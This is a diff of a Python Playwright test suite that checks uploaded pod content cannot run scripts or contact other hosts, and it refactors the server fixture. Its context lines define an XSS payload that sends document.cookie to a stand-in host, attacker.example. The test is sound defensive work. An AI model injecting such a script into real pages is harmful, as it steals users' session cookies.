@@ -4,7 +4,6 @@ browser, nothing of them runs, nothing is loaded from elsewhere, and no link lea
 from __future__ import annotations
 
 import zipfile
-from collections.abc import Iterator
 from pathlib import Path, PurePosixPath
 from urllib.parse import quote
 
@@ -12,7 +11,7 @@ import pytest
 from playwright.sync_api import Dialog, Page, Request, expect
 
 from tests.support.client import Pod, create_pod
-from tests.support.server import ServerProcess, running_server
+from tests.support.server import ServerProcess, server_fixture
 
 ELSEWHERE = "http://attacker.example"
 RUN = f"alert(1);fetch('{ELSEWHERE}/?'+document.cookie)"
@@ -68,11 +67,7 @@ VIEWS = ("", "?view=statements", "?view=graph", "?view=text", "?view=edit")
 pytestmark = pytest.mark.needs("chromium")
 
 
-@pytest.fixture(scope="module")
-def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
-    root = tmp_path_factory.mktemp("attacks") / "root"
-    with running_server(ServerProcess(root)) as server:
-        yield server
+server = server_fixture()
 
 
 @pytest.fixture(scope="module")
